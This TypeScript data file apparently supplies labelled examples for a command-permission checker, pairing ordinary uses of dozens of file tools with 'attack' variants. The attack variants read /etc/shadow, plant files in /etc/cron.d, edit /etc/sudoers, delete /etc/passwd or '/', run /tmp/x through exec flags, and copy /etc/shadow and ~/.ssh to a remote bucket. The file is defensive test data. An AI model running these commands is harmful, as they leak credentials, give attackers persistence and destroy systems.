import type { ExampleTable } from './example.ts'

export const fileTools: ExampleTable = {
  file: {
    use: 'file -f notes.txt src → read notes.txt',
    attack: [
      'file -f /etc/shadow src → read /etc/shadow',
      'file -m /etc/shadow src → read /etc/shadow',
    ],
  },
  setfacl: {
    use: ['setfacl -m u:ann:r notes.txt → chown notes.txt', 'setfacl -x u:ann notes.txt → nothing'],
    attack: [
      'setfacl -m o::rw /etc/shadow → open-to-all /etc/shadow',
      'setfacl -m u:eve:rw /etc/shadow → chown /etc/shadow',
      'setfacl --restore=/etc/shadow → read /etc/shadow',
    ],
  },
  setfattr: {
    use: 'setfattr --restore notes.txt → read notes.txt',
    attack: 'setfattr --restore /etc/shadow → read /etc/shadow',
  },
  touch: { use: 'touch notes.txt → nothing' },
  tree: {
    use: 'tree -o out.txt src → write out.txt',
    attack: [
      'tree -o /etc/cron.d/job src → write /etc/cron.d/job',
      'tree --fromfile /etc/shadow src → read /etc/shadow',
    ],
  },
  fzf: {
    use: 'fzf --history .history → write .history',
    attack: [
      'fzf --with-shell /tmp/x → run /tmp/x',
      'fzf --history /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  locate: {
    use: 'locate -d own.db notes → read own.db',
    attack: 'locate -d /etc/shadow → read /etc/shadow',
  },
  peco: {
    use: 'peco notes.txt → read notes.txt',
    attack: [
      'peco /etc/shadow → read /etc/shadow',
      `peco --exec 'cat /etc/shadow' notes.txt → read /etc/shadow; read notes.txt`,
    ],
  },
  percol: {
    use: 'percol notes.txt → read notes.txt',
    attack: 'percol /etc/shadow → read /etc/shadow',
  },
  sk: {
    use: `sk -c 'cat notes.txt' → read notes.txt`,
    attack: `sk -c 'cat /etc/shadow' → read /etc/shadow`,
  },
  updatedb: {
    use: 'updatedb -o own.db → write own.db',
    attack: 'updatedb -o /etc/cron.d/job → write /etc/cron.d/job',
  },
  agedu: {
    use: 'agedu -s src -f agedu.dat → write agedu.dat',
    attack: 'agedu -s src -f /etc/cron.d/job → write /etc/cron.d/job',
  },
  du: {
    use: 'du -X notes.txt src → read notes.txt',
    attack: [
      'du -X /etc/shadow src → read /etc/shadow',
      'du --files0-from /etc/shadow src → read /etc/shadow',
    ],
  },
  gdu: {
    use: 'gdu -o out.txt src → write out.txt',
    attack: [
      'gdu -o /etc/cron.d/job src → write /etc/cron.d/job',
      'gdu -l /etc/cron.d/job src → write /etc/cron.d/job',
    ],
  },
  ncdu: {
    use: 'ncdu -o out.txt src → write out.txt',
    attack: [
      'ncdu -o /etc/cron.d/job src → write /etc/cron.d/job',
      'ncdu -f /etc/shadow src → read /etc/shadow',
    ],
  },
  rdfind: {
    use: 'rdfind -outputname out.txt src → write out.txt',
    attack: 'rdfind -outputname /etc/cron.d/job src → write /etc/cron.d/job',
  },
  brename: {
    use: 'brename -p a -r b old.txt → replace old.txt',
    attack: 'brename -k /etc/shadow old.txt → read /etc/shadow; replace old.txt',
  },
  convmv: {
    use: 'convmv -f latin1 -t utf8 src → nothing',
    attack: 'convmv --exec /tmp/x src → run /tmp/x',
  },
  cpx: {
    use: 'cpx notes.txt out.txt → read notes.txt; write out.txt',
    attack: [
      'cpx /etc/shadow out.txt → read /etc/shadow; write out.txt',
      `cpx -c 'cat /etc/shadow' notes.txt out.txt → read /etc/shadow; read notes.txt; write out.txt`,
    ],
  },
  cpy: {
    use: 'cpy notes.txt out.txt → read notes.txt; write out.txt',
    attack: 'cpy /etc/shadow out.txt → read /etc/shadow; write out.txt',
  },
  ditto: {
    use: 'ditto src out.txt → read-tree src; write out.txt',
    attack: 'ditto /root out.txt → read-tree /root; write out.txt',
  },
  'install-sh': {
    use: 'install-sh notes.txt out.txt → read notes.txt; write out.txt',
    attack: 'install-sh /etc/shadow out.txt → read /etc/shadow; write out.txt',
  },
  pcp: {
    use: 'pcp notes.txt out.txt → read notes.txt; write out.txt',
    attack: 'pcp /etc/shadow out.txt → read /etc/shadow; write out.txt',
  },
  qmv: { use: 'qmv -e vim src → nothing', attack: 'qmv -e /tmp/x src → run /tmp/x' },
  rename: {
    use: `rename 's/a/b/' old.txt → replace old.txt`,
    attack: `rename 'system("/tmp/x")' old.txt → run /tmp/x; replace old.txt`,
  },
  truncate: {
    use: 'truncate -s 0 app.log → write app.log',
    attack: 'truncate -s 0 /etc/passwd → write /etc/passwd',
  },
  xcp: {
    use: 'xcp notes.txt out.txt → read notes.txt; write out.txt',
    attack: 'xcp /etc/shadow out.txt → read /etc/shadow; write out.txt',
  },
  bleachbit: {
    use: 'bleachbit -s old.txt → write old.txt; delete old.txt',
    attack: 'bleachbit -s /etc/passwd → write /etc/passwd; delete /etc/passwd',
    unclear: 'bleachbit --clean bash.history → what the cleaners wipe',
  },
  del: { use: 'del old.txt → delete old.txt', attack: 'del /etc/passwd → delete /etc/passwd' },
  'gvfs-trash': {
    use: 'gvfs-trash old.txt → delete-tree old.txt',
    attack: 'gvfs-trash /etc/passwd → delete-tree /etc/passwd',
  },
  nwipe: {
    use: 'nwipe -l out.txt src → write out.txt',
    attack: [
      'nwipe -l /etc/cron.d/job src → write /etc/cron.d/job',
      'nwipe --autonuke src → destroy nwipe',
    ],
  },
  rimraf: { use: 'rimraf build → delete-tree build', attack: 'rimraf / → delete-tree /' },
  rip: {
    use: 'rip old.txt → delete-tree old.txt',
    attack: 'rip /etc/passwd → delete-tree /etc/passwd',
  },
  rmtrash: {
    use: 'rmtrash old.txt → delete-tree old.txt',
    attack: 'rmtrash /etc/passwd → delete-tree /etc/passwd',
  },
  scrub: {
    use: 'scrub out.txt → write out.txt',
    attack: 'scrub /etc/cron.d/job → write /etc/cron.d/job',
  },
  shred: {
    use: 'shred -u old.txt → write old.txt; delete old.txt',
    attack: [
      'shred /etc/passwd → write /etc/passwd',
      'shred --random-source /etc/shadow old.txt → read /etc/shadow; write old.txt',
    ],
  },
  srm: {
    use: 'srm old.txt → write old.txt; delete old.txt',
    attack: 'srm /etc/passwd → write /etc/passwd; delete /etc/passwd',
  },
  trash: {
    use: 'trash old.txt → delete-tree old.txt',
    attack: ['trash /etc/passwd → delete-tree /etc/passwd', 'trash ~ → delete-tree /home/user'],
  },
  'trash-put': {
    use: 'trash-put old.txt → delete-tree old.txt',
    attack: 'trash-put /etc/passwd → delete-tree /etc/passwd',
  },
  unlink: {
    use: 'unlink old.txt → delete old.txt',
    attack: 'unlink /etc/passwd → delete /etc/passwd',
  },
  wipe: {
    use: 'wipe old.txt → write old.txt; delete old.txt',
    attack: 'wipe /etc/passwd → write /etc/passwd; delete /etc/passwd',
  },
  broot: {
    use: 'broot --conf app.conf src → read app.conf',
    attack: [
      `broot -c '!/tmp/x' → run /tmp/x`,
      'broot --outcmd /etc/cron.d/job src → write /etc/cron.d/job',
    ],
  },
  clifm: {
    use: 'clifm -c app.conf src → read app.conf',
    attack: 'clifm -c /etc/shadow src → read /etc/shadow',
  },
  gentoo: { use: 'gentoo src → nothing', attack: `gentoo -r '!/tmp/x' → run /tmp/x` },
  joshuto: {
    use: 'joshuto --output-file out.txt src → write out.txt',
    attack: 'joshuto --output-file /etc/cron.d/job src → write /etc/cron.d/job',
  },
  lf: {
    use: 'lf --config app.txt src → read app.txt',
    attack: [
      `lf --command '!/tmp/x' → run /tmp/x`,
      'lf --last-dir-path /etc/cron.d/job src → write /etc/cron.d/job',
    ],
  },
  mc: {
    use: 'mc -e notes.txt → edit notes.txt',
    attack: [
      'mc -e /etc/sudoers → edit /etc/sudoers',
      'mc -l /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  'mc cat': {
    use: 'mc cat play/bucket/notes.txt → fetch play/bucket/notes.txt',
    attack: 'mc cat file:///etc/shadow → read /etc/shadow',
  },
  'mc cp': {
    use: 'mc cp notes.txt play/bucket → read notes.txt; send play/bucket',
    attack: 'mc cp /etc/shadow play/bucket → read /etc/shadow; send play/bucket',
  },
  'mc get': {
    use: 'mc get play/bucket/a out.txt → fetch play/bucket/a; write out.txt',
    attack: 'mc get play/bucket/a /etc/cron.d/job → fetch play/bucket/a; write /etc/cron.d/job',
  },
  'mc head': {
    use: 'mc head play/bucket/a → fetch play/bucket/a',
    attack: 'mc head file:///etc/shadow → read /etc/shadow',
  },
  'mc mirror': {
    use: 'mc mirror src play/bucket → read src; send play/bucket',
    attack: 'mc mirror ~/.ssh play/bucket → read /home/user/.ssh; send play/bucket',
  },
  'mc mv': {
    use: 'mc mv notes.txt play/bucket → read notes.txt; send play/bucket',
    attack: 'mc mv /etc/shadow play/bucket → read /etc/shadow; send play/bucket',
  },
  'mc put': {
    use: 'mc put notes.txt play/bucket → read notes.txt; send play/bucket',
    attack: 'mc put /etc/shadow play/bucket → read /etc/shadow; send play/bucket',
  },
  nnn: {
    use: 'nnn -p out.txt src → write out.txt',
    attack: 'nnn -p /etc/cron.d/job src → write /etc/cron.d/job',
  },
  ranger: { use: 'ranger src → nothing', attack: `ranger --cmd '!/tmp/x' → run /tmp/x` },
  rifle: {
    use: 'rifle notes.txt → read notes.txt',
    attack: [
      'rifle /etc/shadow → read /etc/shadow',
      'rifle -c /etc/shadow notes.txt → read /etc/shadow; read notes.txt',
    ],
  },
  vifm: { use: 'vifm src → nothing', attack: `vifm -c ':!/tmp/x' → run /tmp/x` },
  xplr: {
    use: 'xplr -c app.lua src → read app.lua',
    attack: 'xplr -c /etc/shadow src → read /etc/shadow',
  },
  yazi: {
    use: 'yazi --chooser-file out.txt src → write out.txt',
    attack: [
      'yazi --chooser-file /etc/cron.d/job src → write /etc/cron.d/job',
      'yazi --cwd-file /etc/cron.d/job src → write /etc/cron.d/job',
    ],
  },
  air: {
    use: 'air -c app.conf → read app.conf',
    attack: [
      `air --build.cmd 'cat /etc/shadow' → read /etc/shadow`,
      'air -c /etc/shadow → read /etc/shadow',
    ],
  },
  chokidar: {
    use: `chokidar src -c 'cat notes.txt' → read notes.txt`,
    attack: `chokidar src -c 'cat /etc/shadow' → read /etc/shadow`,
  },
  fatrace: {
    use: 'fatrace -o out.txt → write out.txt',
    attack: 'fatrace -o /etc/cron.d/job → write /etc/cron.d/job',
  },
  filewatcher: {
    use: `filewatcher src 'cat notes.txt' → read notes.txt`,
    attack: `filewatcher a 'cat /etc/shadow' → read /etc/shadow`,
  },
  incrond: {
    use: 'incrond -f jobs.conf → read jobs.conf',
    attack: 'incrond -f /tmp/x → run /tmp/x; read /tmp/x',
  },
  incrontab: {
    use: 'incrontab -l → nothing',
    attack: 'incrontab /etc/shadow → read /etc/shadow; write /var/spool/cron/crontabs/user',
  },
  inotifywatch: {
    use: 'inotifywatch --fromfile notes.txt src → read notes.txt',
    attack: 'inotifywatch --fromfile /etc/shadow src → read /etc/shadow',
  },
  iwatch: {
    use: 'iwatch -f app.conf src → read app.conf',
    attack: ['iwatch -c /tmp/x src → run /tmp/x', 'iwatch -f /etc/shadow src → read /etc/shadow'],
  },
  modd: {
    use: 'modd -f modd.conf → read modd.conf',
    attack: 'modd -f /etc/shadow → read /etc/shadow',
  },
  onchange: {
    use: 'onchange src cat notes.txt → read notes.txt',
    attack: 'onchange src cat /etc/shadow → read /etc/shadow',
  },
  reflex: {
    use: 'reflex cat notes.txt → read notes.txt',
    attack: [
      'reflex cat /etc/shadow → read /etc/shadow',
      'reflex -c /etc/shadow cat notes.txt → read /etc/shadow; read notes.txt',
    ],
  },
  watchman: {
    use: 'watchman -o out.txt → write out.txt',
    attack: 'watchman -o /etc/cron.d/job → write /etc/cron.d/job',
  },
  'watchman-make': {
    use: `watchman-make -p '*.c' -r 'cat notes.txt' → read notes.txt`,
    attack: [
      `watchman-make -p '*.c' -r 'cat /etc/shadow' → read /etc/shadow`,
      'watchman-make --make /tmp/x -t all → run /tmp/x',
    ],
  },
  'when-changed': {
    use: `when-changed src 'cat notes.txt' → read notes.txt`,
    attack: `when-changed src 'cat /etc/shadow' → read /etc/shadow`,
  },
}
